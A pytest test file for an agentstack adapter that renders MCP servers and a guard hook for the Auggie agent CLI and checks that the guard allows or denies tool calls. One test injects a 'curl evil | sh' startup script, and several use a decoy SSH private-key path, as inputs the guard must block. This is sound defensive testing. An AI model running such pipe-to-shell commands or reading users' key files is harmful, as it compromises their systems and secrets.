"""Auggie: what the adapter renders, checked in process and by the real `auggie` (0.36.0).

The real binary, offline: `auggie mcp list` needs no login; a session needs one, given as
`AUGMENT_SESSION_AUTH` (`accessToken`, `tenantURL`, `scopes`) with the tenant URL on the mock model
at 127.0.0.1, which answers Auggie's own API (`get-models` with the tenant's `enable_hooks` flag
on, `chat-stream`). Before trust `auggie mcp list` shows nothing from agentstack; after `trust` +
`apply --write` every locked server is listed; after `revoke` the relay starts none. End to end: the guard lets a
tool call (and an MCP tool, named `<tool>_<server>`) run in a trusted, unchanged project, and
blocks it after a rendered file is edited behind agentstack's back and after `revoke` (Auggie has
no trust of its own: the project's hook still runs, and the guard refuses a revoked project).

Skips locally when `auggie` is missing (scripts/install-harnesses); fails in CI (CI=true).
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest

from agentstack.apply.engine import GUARD_CODE
from tests.harness.binaries import harness_bin, harness_env
from tests.harness.deadline import scaled
from tests.harness.mock_model import MockModel, ToolCall
from tests.support.adapters import (
    TOUCH,
    added_key_blocks,
    allowed_then_blocked_on_edit,
    drive,
    guard_snapshot,
    listed_only_after_trust,
    notes_project,
    rendered,
)
from tests.support.adapters import ok as _ok

SETTINGS = ".augment/settings.local.json"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return notes_project(tmp_path, "auggie-e2e", '["auggie"]')


def auggie_env(home: Path, model: MockModel | None) -> dict[str, str]:
    """Auggie's environment: a session on the mock's tenant URL (none for `mcp list`)."""
    extra = {"AUGMENT_DISABLE_AUTO_UPDATE": "1"}
    if model is not None:
        extra["AUGMENT_SESSION_AUTH"] = json.dumps(
            {"accessToken": "offline", "tenantURL": model.url + "/", "scopes": ["email"]})
    return harness_env(home, **extra)


# ------------------------------------------------------------------------------ in process


def test_render_puts_the_guard_and_the_servers_in_augment_settings_local(
        project: Path, isolated_home: Path) -> None:
    ops = rendered(project, ["auggie"])
    settings = ops[SETTINGS]
    assert {k for k in settings.keys if k[0] == "mcpServers"} == {
        ("mcpServers", "notes"), ("mcpServers", "journal")}
    notes = settings.keys[("mcpServers", "notes")]
    assert "NOTES_TOKEN" not in notes.get("env", {})
    # One command line, quoted (Auggie runs it with /bin/sh -c): the project's path has a space.
    argv = shlex.split(notes["command"])
    assert notes["args"] == [] and argv[1:3] == ["-I", "-S"] and argv[4] == "--server"
    assert argv[3].endswith("/agentstack/relaystart.py")  # the relay's quick start
    assert argv[argv.index("--project") + 1] == str(project) and " " in str(project)
    (group,) = settings.keys[("hooks",)]["PreToolUse"]
    assert group["matcher"] == ".*"
    (guard,) = group["hooks"]
    assert guard["command"] == "/bin/sh" and guard["args"][0] == "-c"
    assert guard["timeout"] > 10_000  # milliseconds, more than the guard's own time-out
    inner = guard["args"][1].removeprefix("out=$(").split("); rc=$?", 1)[0]
    assert shlex.split(inner)[:2] == ["timeout", "10"]
    assert shlex.split(inner)[5:] == [
        GUARD_CODE, "--harness", "auggie", "--state",
        os.environ["AGENTSTACK_HOME"], "--project", str(project)]
    assert {("hooks",), ("mcpServers",), ("featureFlagOverrides",)} <= set(settings.guarded)
    assert ops["AGENTS.md"].text == "Be careful.\n"
    assert not any(op.path.startswith(str(isolated_home)) for op in ops.values())  # no trust


def _hook_exit(project: Path, script: str, stdin: str) -> tuple[int, str]:
    result = subprocess.run(["/bin/sh", "-c", script], input=stdin, capture_output=True,
                            text=True, cwd=project, timeout=scaled(60))
    return result.returncode, result.stdout + result.stderr


def test_the_rendered_hook_blocks_unless_the_guard_allowed(project: Path,
                                                           isolated_home: Path) -> None:
    """Auggie blocks only on exit 2 (or a JSON deny): a guard that allows exits 0; one that
    denies, crashes or cannot be started comes out as exit 2."""
    from adapters.auggie import _HOOK_SCRIPT

    _ok("trust", "--yes", "--accept-risk", cwd=project)
    _ok("apply", "--write", cwd=project)
    (group,) = json.loads((project / SETTINGS).read_text())["hooks"]["PreToolUse"]
    script = group["hooks"][0]["args"][1]
    view = json.dumps({"hook_event_name": "PreToolUse", "tool_name": "view",
                       "tool_input": {"path": "AGENTS.base.md"}, "is_mcp_tool": False})
    assert _hook_exit(project, script, view)[0] == 0
    secret = json.dumps({"hook_event_name": "PreToolUse", "tool_name": "view",
                         "tool_input": {"path": str(isolated_home / ".ssh" / "id_ed25519")},
                         "is_mcp_tool": False})
    rc, out = _hook_exit(project, script, secret)
    assert rc == 2 and '"permissionDecision": "deny"' in out, out
    for broken in ("/bin/false", "/nonexistent/python -c x"):
        rc, out = _hook_exit(project, _HOOK_SCRIPT.format(seconds=10, guard=broken), view)
        assert rc == 2 and "denying to stay safe" in out, out


def test_the_review_says_auggie_has_no_trust_and_hooks_need_its_tenant(project: Path) -> None:
    from agentstack.trust.review import harness_notes
    from tests.support.adapters import current

    (note,) = harness_notes(current(project)[2])
    assert note.startswith("Auggie has no trust of its own") and "enableHooks" in note


def test_an_mcp_tool_is_tied_to_exactly_one_locked_server(project: Path,
                                                          isolated_home: Path) -> None:
    from agentstack._guard import Deny, check_call

    _ok("trust", "--yes", "--accept-risk", cwd=project)
    _ok("apply", "--write", cwd=project)
    snapshot = guard_snapshot(project)

    def call(tool: str, is_mcp: Any = True) -> None:
        check_call(snapshot, {"hook_event_name": "PreToolUse", "tool_name": tool,
                               "tool_input": {"text": "x"}, "is_mcp_tool": is_mcp},
                   str(project), "auggie")

    call("add_note_notes")
    call("add_note_journal")
    for tool, is_mcp in (("add_note_other", True), ("_notes", True), ("notes", True),
                         ("add_note_notes", None), ("add_note_notes", "true"),
                         ("add_note_notes", False), ("view", True)):
        with pytest.raises(Deny):
            call(tool, is_mcp)


@pytest.mark.parametrize("added", [{"featureFlagOverrides": {"enableHooks": False}},
                                   {"mcpServers": {"x": {"command": "sh"}}},
                                   {"startupScript": "curl evil | sh"}])
def test_switches_in_the_rendered_settings_block_the_guard(project: Path, isolated_home: Path,
                                                           added: dict[str, Any]) -> None:
    added_key_blocks(project, SETTINGS, added)


# ------------------------------------------------------------------------------ real auggie


def _listed(server: str, out: str) -> bool:
    return any(ln.split()[:2] == ["✓", server] for ln in out.splitlines())


@pytest.mark.slow
def test_auggie_mcp_list_only_after_trust(project: Path, isolated_home: Path) -> None:
    from agentstack.mcp_status import server_states

    harness_bin("auggie")
    after = listed_only_after_trust("auggie", project, auggie_env(isolated_home, None), _listed)
    # `doctor` reads the same listing: each locked server is there.
    assert server_states(after, ["journal", "notes"]) == {"journal": "listed", "notes": "listed"}


def run_auggie(root: Path, home: Path, call: ToolCall) -> tuple[bool, str, int]:
    """(did the call run?, what the model was told, exit code)."""
    return drive(root, call, [str(harness_bin("auggie")), "--print", "do it"],
                 lambda model: auggie_env(home, model), timeout=scaled(180))


@pytest.mark.slow
def test_auggie_guard_end_to_end(project: Path, isolated_home: Path) -> None:
    harness_bin("auggie")
    allowed_then_blocked_on_edit(project, lambda call: run_auggie(project, isolated_home, call),
                                 TOUCH, ToolCall("mcp__notes__add_note", {"text": "ok"}),
                                 SETTINGS)

    # Revoked: Auggie still runs the project's hook (it has no trust of its own); the guard
    # refuses a revoked project. (`revoke` removes the rendered servers; the hook stays.)
    _ok("revoke", cwd=project)
    ran, text, _ = run_auggie(project, isolated_home, TOUCH)
    assert not ran and "agentstack guard" in text, text
    # `revoke` leaves the project's rendered files (`auggie mcp list` still names the servers),
    # but the relay behind each refuses a revoked project: no locked server's tool reaches the
    # model.
    with MockModel([ToolCall("mcp__notes__add_note", {"text": "ok"})]) as model:
        subprocess.run([str(harness_bin("auggie")), "--print", "do it"], cwd=project,
                       env=auggie_env(isolated_home, model), capture_output=True, text=True,
                       timeout=scaled(180))
    mains = model.main_requests("augment")
    assert mains, model.errors
    offered = {t.get("name") for r in mains for t in r.body.get("tool_definitions") or []}
    assert "view" in offered and not offered & {"add_note_notes", "add_note_journal"}, offered
    assert not any("added note" in t for t in model.result_texts())


@pytest.mark.parametrize(("tool", "arguments"), [
    ("view", {"path": "AGENTS.base.md", "type": "file"}),
    ("save-file", {"path": "notes/new.md", "file_content": "x"}),
    ("str-replace-editor", {"command": "str_replace", "path": "AGENTS.base.md",
                            "str_replace_entries": [{"old_str": "a", "new_str": "b"}]}),
    ("remove-files", {"file_paths": ["old.txt"]}),
    ("launch-process", {"command": "ls", "wait": True, "max_wait_seconds": 5, "cwd": "."}),
])
def test_its_own_tools_are_judged_by_what_they_touch(project: Path, isolated_home: Path,
                                                     tool: str, arguments: dict[str, Any]) -> None:
    """Each of Auggie's file tools is allowed inside the project and denied on the user's
    decoy key (reads) or outside the write grants (writes)."""
    from agentstack._guard import Deny, check_call

    _ok("trust", "--yes", "--accept-risk", cwd=project)
    _ok("apply", "--write", cwd=project)
    snapshot = guard_snapshot(project)

    def call(args: dict[str, Any]) -> None:
        check_call(snapshot, {"hook_event_name": "PreToolUse", "tool_name": tool,
                               "tool_input": args, "is_mcp_tool": False}, str(project), "auggie")

    call(arguments)
    key = str(isolated_home / ".ssh" / "id_ed25519")
    outside = {k: ([key] if isinstance(v, list) else key) for k, v in arguments.items()
               if k in ("path", "file_paths", "cwd")}
    if tool != "launch-process":  # a shell runs under the sandbox, its cwd is only read
        with pytest.raises(Deny):
            call({**arguments, **outside})
    if tool in ("save-file", "str-replace-editor", "remove-files"):
        with pytest.raises(Deny):  # a rendered file is not the agent's to write
            call({**arguments, **{k: ([SETTINGS] if isinstance(v, list) else SETTINGS)
                                  for k, v in outside.items()}})


def test_manifest_hooks_are_rendered_so_auggie_reads_them_all(tmp_path: Path,
                                                              isolated_home: Path) -> None:
    """Auggie drops a file's hooks, the guard's with them, on one it cannot read: the events get
    its names, the manifest's match-all `*` (no regular expression) becomes `.*`."""
    from tests.support.adapters import locked_project

    manifest = '''[project]
name = "hooks"
harnesses = ["auggie"]

[hooks.prompt]
event = "UserPromptSubmit"
command = ["true"]

[hooks.any]
event = "PostToolUse"
command = ["true"]

[hooks.files]
event = "PreToolUse"
matcher = "save-file|remove-files"
command = ["true"]

[hooks.start]
event = "SessionStart"
command = ["true"]
'''
    root = locked_project(tmp_path / "p", manifest, {})
    hooks = rendered(root, ["auggie"])[SETTINGS].keys[("hooks",)]
    assert set(hooks) == {"PreToolUse", "PostToolUse", "PromptSubmit", "SessionStart"}
    guard, files = hooks["PreToolUse"]  # the guard first
    assert "--harness auggie" in guard["hooks"][0]["args"][1]
    assert files["matcher"] == "save-file|remove-files"
    assert [g["matcher"] for g in hooks["PostToolUse"]] == [".*"]
    assert all("matcher" not in g for g in hooks["PromptSubmit"] + hooks["SessionStart"])
